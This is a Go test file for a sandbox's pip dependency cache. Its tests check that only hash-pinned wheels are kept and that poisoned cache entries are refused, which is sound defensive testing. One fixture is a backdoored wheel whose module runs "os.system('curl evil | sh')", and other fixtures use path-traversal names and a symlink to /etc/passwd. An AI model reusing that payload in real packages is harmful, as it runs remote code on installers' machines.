package depcache

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/airlock-dev/airlock/internal/depcache/piptest"
	"github.com/airlock-dev/airlock/internal/tarball"
)

// pipWheel is a pure-Python wheel of name and version holding one
// module with body.
func pipWheel(t testing.TB, name, version, body string) (file string, data []byte) {
	t.Helper()
	file, data, err := piptest.Wheel(name, version, [2]string{name + "/__init__.py", body})
	if err != nil {
		t.Fatal(err)
	}
	return file, data
}

func sha256Hex(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// pipIndex is a PEP 503 "simple" index on loopback serving wheels, with
// the cache headers PyPI sends (files immutable, pages for 10 minutes),
// counting the requests for each path.
type pipIndex struct {
	srv   *httptest.Server
	files map[string][]byte // "/files/NAME" -> content
	pages map[string]string // "/simple/PROJECT/" -> HTML
	mu    sync.Mutex
	hits  map[string]int
}

// newPipIndex serves wheels (file name -> content) on addr ("": any
// loopback port).
func newPipIndex(t testing.TB, addr string, wheels map[string][]byte) *pipIndex {
	t.Helper()
	ix := &pipIndex{files: map[string][]byte{}, pages: map[string]string{}, hits: map[string]int{}}
	names := make([]string, 0, len(wheels))
	for n := range wheels {
		names = append(names, n)
	}
	sort.Strings(names)
	root := "<!DOCTYPE html><html><body>\n"
	for _, n := range names {
		project := strings.ReplaceAll(strings.ToLower(strings.SplitN(n, "-", 2)[0]), "_", "-")
		ix.files["/files/"+n] = wheels[n]
		ix.pages["/simple/"+project+"/"] += fmt.Sprintf("<a href=\"../../files/%s#sha256=%s\">%s</a><br>\n", n, sha256Hex(wheels[n]), n)
		root += fmt.Sprintf("<a href=\"/simple/%s/\">%s</a>\n", project, project)
	}
	ix.pages["/simple/"] = root
	ix.srv = httptest.NewUnstartedServer(http.HandlerFunc(ix.serve))
	if addr != "" {
		l, err := net.Listen("tcp", addr)
		if err != nil {
			t.Skipf("listen %s: %v", addr, err)
		}
		ix.srv.Listener = l
	}
	ix.srv.Start()
	t.Cleanup(ix.srv.Close)
	return ix
}

func (ix *pipIndex) serve(w http.ResponseWriter, r *http.Request) {
	ix.mu.Lock()
	ix.hits[r.URL.Path]++
	ix.mu.Unlock()
	if b, ok := ix.files[r.URL.Path]; ok {
		w.Header().Set("Cache-Control", "max-age=365000000, immutable, public")
		w.Header().Set("Content-Type", "application/octet-stream")
		_, _ = w.Write(b)
		return
	}
	if p, ok := ix.pages[r.URL.Path]; ok {
		w.Header().Set("Cache-Control", "max-age=600, public")
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<!DOCTYPE html><html><body>\n"+p+"</body></html>\n")
		return
	}
	http.NotFound(w, r)
}

// fileHits is how many requests the index had for its files, and for
// anything at all.
func (ix *pipIndex) fileHits() (files, all int) {
	ix.mu.Lock()
	defer ix.mu.Unlock()
	for p, n := range ix.hits {
		all += n
		if strings.HasPrefix(p, "/files/") {
			files += n
		}
	}
	return files, all
}

func (ix *pipIndex) reset() {
	ix.mu.Lock()
	ix.hits = map[string]int{}
	ix.mu.Unlock()
}

// pipKeyOf is the KEY of url in pip's cache.
func pipKeyOf(url string) string {
	s := sha256.Sum224([]byte(url))
	return hex.EncodeToString(s[:])
}

func pipRel(dir, key string) string {
	return path.Join(dir, key[0:1], key[1:2], key[2:3], key[3:4], key[4:5], key)
}

// legacyEntry is an "http" entry as pip before 23.3 writes it (the
// daemon's writer, with headers of the test's choosing spliced in).
func legacyEntry(body []byte) []byte {
	head, tail := pipEntryParts(int64(len(body)), "Thu, 01 Jan 2026 00:00:00 GMT")
	return append(append(append([]byte{}, head...), body...), tail...)
}

// Attack: a task's pip cache holds, beside a pinned wheel in each
// layout, a backdoored copy of that wheel, a wheel the base commit's
// requirements.txt does not pin, a pinned body under names that climb
// out of the cache or whose directories do not match their key, a
// symlink at an entry's name, and an entry that is not msgpack. Only the pinned bodies reach the store,
// under their keys, as bare bodies (never the task's entry).
func TestCollectPipRefusesPoisonedWheels(t *testing.T) {
	_, good := pipWheel(t, "demo", "1.0", "X = 'index'\n")
	_, evil := pipWheel(t, "demo", "1.0", "import os; os.system('curl evil | sh')\n")
	_, other := pipWheel(t, "other", "2.0", "Y = 1\n")
	_, v2good := pipWheel(t, "dep", "3.0", "Z = 1\n")
	req := "demo==1.0 \\\n    --hash=sha256:" + sha256Hex(good) + "\ndep==3.0 --hash=sha256:" + strings.ToUpper(sha256Hex(v2good)) + "\nother==2.0\n"
	j, err := newPipJudge([]byte(req))
	if err != nil {
		t.Fatal(err)
	}
	kGood, kEvil, kOther, kV2 := pipKeyOf("http://ix/files/demo-good.whl"), pipKeyOf("http://ix/files/demo-evil.whl"), pipKeyOf("http://ix/files/other.whl"), pipKeyOf("http://ix/files/dep.whl")
	kClimb := pipKeyOf("climb")
	files := map[string][]byte{
		pipRel("http", kGood):                    legacyEntry(good),
		pipRel("http", kEvil):                    legacyEntry(evil),
		pipRel("http-v2", kEvil) + ".body":       evil,
		pipRel("http", kOther):                   legacyEntry(other),
		pipRel("http-v2", kV2) + ".body":         v2good,
		pipRel("http-v2", kV2):                   []byte("cc=4,forged metadata"),
		"../" + pipRel("http", kClimb):           legacyEntry(good),
		"http/../../" + pipRel("http", kClimb):   legacyEntry(good),
		"http/a/b/c/d/e/" + kClimb:               legacyEntry(good), // directories not its key's
		pipRel("http", pipKeyOf("not msgpack")):  []byte("cc=4,\xdb\xff\xff\xff\xff"),
		pipRel("http", pipKeyOf("not an entry")): good,
		"wheels/aa/bb/demo-1.0-py3-none-any.whl": good,
	}
	d := &Caches{cfg: Config{Dir: t.TempDir()}}
	dir := d.storeDir("/src/p", "pip")
	r := &collectReport{Why: map[string]string{}}
	links := map[string]string{pipRel("http-v2", pipKeyOf("link")) + ".body": "/etc/passwd"}
	if err := d.addFrom(tarOf(t, files, links), dir, "/src/p", j, r); err != nil {
		t.Fatal(err)
	}
	got := storeFiles(t, dir)
	want := map[string]string{kGood[:2] + "/" + kGood: string(good), kV2[:2] + "/" + kV2: string(v2good)}
	if len(got) != len(want) {
		t.Fatalf("store holds %v (report %+v); want %v", keys(got), r, keys(want))
	}
	for p, c := range want {
		if got[p] != c {
			t.Errorf("store %s is not the pinned wheel (%d bytes)", p, len(got[p]))
		}
	}
	// evil (both layouts), other, the two that do not parse.
	if r.Added != 2 || r.Refused != 5 {
		t.Errorf("report %+v; want 2 added, 5 refused", r)
	}
	if !strings.Contains(r.Why[pipRel("http", kEvil)], "not a --hash") {
		t.Errorf("the backdoored wheel's reason: %q", r.Why[pipRel("http", kEvil)])
	}
}

// A requirements.txt without --hash pins nothing, and no cache is kept.
func TestPipJudgeNeedsHashes(t *testing.T) {
	if _, err := newPipJudge([]byte("demo==1.0\n")); err == nil {
		t.Fatal("a requirements.txt without --hash was accepted")
	}
}

// The reader takes back what the writer wrote, whatever the body's size
// class, and refuses truncations and nesting bombs.
func TestPipEntryRoundTrip(t *testing.T) {
	for _, n := range []int{0, 1, 255, 256, 65535, 65536, 1 << 20} {
		body := bytes.Repeat([]byte{'w'}, n)
		got, err := pipEntryBody(legacyEntry(body))
		if err != nil || !bytes.Equal(got, body) {
			t.Fatalf("%d bytes: %v (%d back)", n, err, len(got))
		}
		e := legacyEntry(body)
		if _, err := pipEntryBody(e[:len(e)-1]); err == nil && n > 0 {
			t.Errorf("%d bytes: a truncated entry read", n)
		}
	}
	if _, err := pipEntryBody([]byte("cc=4," + strings.Repeat("\x91", 100) + "\xc0")); err == nil {
		t.Error("100 nested arrays read")
	}
	if _, err := pipEntryBody([]byte("cc=4,\xdf\xff\xff\xff\xff")); err == nil {
		t.Error("a map claiming 4G entries read")
	}
}

// pipSdist is a source distribution made with archive/tar: a setup.py
// (built with the interpreter's own setuptools: --no-build-isolation,
// no index), PKG-INFO and the module.
func pipSdist(t testing.TB, name, version string) (string, []byte) {
	t.Helper()
	dir := name + "-" + version + "/"
	files := [][2]string{
		{dir + "PKG-INFO", "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"},
		{dir + "setup.py", "from setuptools import setup\nsetup(name=" + strconv.Quote(name) + ", version=" + strconv.Quote(version) + ", packages=[" + strconv.Quote(name) + "])\n"},
		{dir + name + "/__init__.py", "SDIST = True\n"},
	}
	var b bytes.Buffer
	gz := gzip.NewWriter(&b)
	tw := tar.NewWriter(gz)
	for _, f := range files {
		if err := tw.WriteHeader(&tar.Header{Name: f[0], Mode: 0o644, Size: int64(len(f[1])), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		_, _ = tw.Write([]byte(f[1]))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return name + "-" + version + ".tar.gz", b.Bytes()
}

// pythons are the interpreters with pip to try: the base template's
// (python3 on PATH) and AIRLOCK_TEST_PYTHONS (a colon-separated list,
// say a newer pip's, whose cache layout is http-v2).
func pythons(t *testing.T) []string {
	var out []string
	if p, err := exec.LookPath("python3"); err == nil {
		out = append(out, p)
	}
	for _, p := range filepath.SplitList(os.Getenv("AIRLOCK_TEST_PYTHONS")) {
		if p != "" {
			out = append(out, p)
		}
	}
	var with []string
	for _, p := range out {
		if exec.Command(p, "-m", "pip", "--version").Run() == nil {
			with = append(with, p)
		}
	}
	if len(with) == 0 {
		t.Skip("no python3 with pip")
	}
	return with
}

// pipInstall runs pip install --require-hashes of req into a fresh
// target with home as HOME, against ix, and returns its output.
func pipInstall(t *testing.T, py, home, req string, ix *pipIndex) ([]byte, error) {
	return pipRun(t, py, home, req, ix, "--require-hashes", "-r", "requirements.txt")
}

// pipRun runs pip install with args (and a requirements.txt of req)
// into a fresh target, with home as HOME, against ix.
func pipRun(t *testing.T, py, home, req string, ix *pipIndex, args ...string) ([]byte, error) {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "requirements.txt"), []byte(req), 0o644); err != nil {
		t.Fatal(err)
	}
	host := strings.TrimPrefix(ix.srv.URL, "http://")
	c := exec.Command(py, append([]string{"-m", "pip", "install", "--disable-pip-version-check", "--no-input",
		"--no-build-isolation", "--target", filepath.Join(dir, "site")}, args...)...)
	c.Dir = dir
	c.Env = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "PIP_INDEX_URL=" + ix.srv.URL + "/simple", "PIP_TRUSTED_HOST=" + host,
		"PIP_CONFIG_FILE=" + os.DevNull, "PYTHONNOUSERSITE=1"}
	return c.CombinedOutput()
}

// The real pip, against a loopback index: a cold install of three
// wheels and an sdist fills pip's HTTP cache; the daemon's collect keeps the pinned wheels' bodies; a
// second HOME seeded from the store installs with no request for any
// file (the pages are still asked for: pip revalidates them always).
// Attack: the store's body of one wheel under the key of another's URL
// (what a task can claim) makes pip refuse that install by its hash, in
// hash-checking mode and (by the index link's #sha256=) without it.
func TestPipUsesTheSeededCache(t *testing.T) {
	for i, py := range pythons(t) {
		t.Run(fmt.Sprint(i, "-", filepath.Base(py)), func(t *testing.T) { runPipSeed(t, py) })
	}
}

func runPipSeed(t *testing.T, py string) {
	ver, _ := exec.Command(py, "-m", "pip", "--version").Output()
	t.Logf("%s", bytes.TrimSpace(ver))
	wheels := map[string][]byte{}
	var req strings.Builder
	for i, name := range []string{"alpha", "beta", "gamma"} {
		file, data := pipWheel(t, name, "1.0", fmt.Sprintf("N = %d\n", i))
		wheels[file] = data
		fmt.Fprintf(&req, "%s==1.0 --hash=sha256:%s\n", name, sha256Hex(data))
	}
	if exec.Command(py, "-c", "import setuptools, wheel").Run() == nil { // to build it
		file, sdist := pipSdist(t, "delta", "1.0")
		wheels[file] = sdist
		fmt.Fprintf(&req, "delta==1.0 --hash=sha256:%s\n", sha256Hex(sdist))
	} else {
		t.Logf("%s has no setuptools and wheel: no sdist", py)
	}
	n := len(wheels)
	ix := newPipIndex(t, "", wheels)
	cold := t.TempDir()
	if out, err := pipInstall(t, py, cold, req.String(), ix); err != nil {
		t.Fatalf("cold install: %v\n%s", err, out)
	}
	if files, _ := ix.fileHits(); files != n {
		t.Fatalf("the cold install fetched %d files, want %d", files, n)
	}
	var tb bytes.Buffer
	if err := tarball.WriteDir(&tb, filepath.Join(cold, ".cache", "pip")); err != nil {
		t.Fatal(err)
	}
	j, err := newPipJudge([]byte(req.String()))
	if err != nil {
		t.Fatal(err)
	}
	d := &Caches{cfg: Config{Dir: t.TempDir()}}
	store := d.storeDir("/src/p", "pip")
	r := &collectReport{Why: map[string]string{}}
	if err := d.addFrom(tar.NewReader(&tb), store, "/src/p", j, r); err != nil {
		t.Fatal(err)
	}
	if r.Added != n {
		t.Fatalf("collect from pip's own cache: %+v", r)
	}
	seeded := seedHome(t, store)
	ix.reset()
	if out, err := pipInstall(t, py, seeded, req.String(), ix); err != nil {
		t.Fatalf("install from the seeded cache: %v\n%s", err, out)
	}
	files, all := ix.fileHits()
	t.Logf("seeded install: %d file requests, %d in all (cold: %d files, %d in all)", files, all, n, 2*n)
	if files != 0 {
		t.Fatalf("pip fetched %d files with a seeded cache", files)
	}

	// The task's claim: alpha's body under beta's URL.
	alphaKey := pipKeyOf(ix.srv.URL + "/files/alpha-1.0-py3-none-any.whl")
	betaKey := pipKeyOf(ix.srv.URL + "/files/beta-1.0-py3-none-any.whl")
	if err := os.Rename(filepath.Join(store, alphaKey[:2], alphaKey), filepath.Join(store, betaKey[:2], betaKey)); err != nil {
		t.Fatal(err)
	}
	poisoned := seedHome(t, store)
	out, err := pipInstall(t, py, poisoned, req.String(), ix)
	if err == nil || !strings.Contains(string(out), "DO NOT MATCH THE HASHES") {
		t.Fatalf("pip with a body under another URL's key: %v\n%s", err, out)
	}
	// Without --require-hashes pip still refuses it: it checks the
	// index link's #sha256= (which PEP 503 indexes give) all the same.
	out, err = pipRun(t, py, poisoned, "", ix, "beta==1.0")
	if err == nil || !strings.Contains(string(out), "DO NOT MATCH THE HASHES") {
		t.Fatalf("pip install beta (no hashes) with alpha's body under beta's key: %v\n%s", err, out)
	}
}

// seedHome is a HOME whose pip cache is the seed of store, unpacked as
// the sandbox would.
func seedHome(t *testing.T, store string) string {
	t.Helper()
	h := t.TempDir()
	dir := filepath.Join(h, ".cache", "pip")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := writePipSeed(&b, store); err != nil {
		t.Fatal(err)
	}
	if _, err := tarball.Extract(&b, dir, tarball.ExtractOptions{UID: os.Getuid(), GID: os.Getgid()}); err != nil {
		t.Fatal(err)
	}
	return h
}
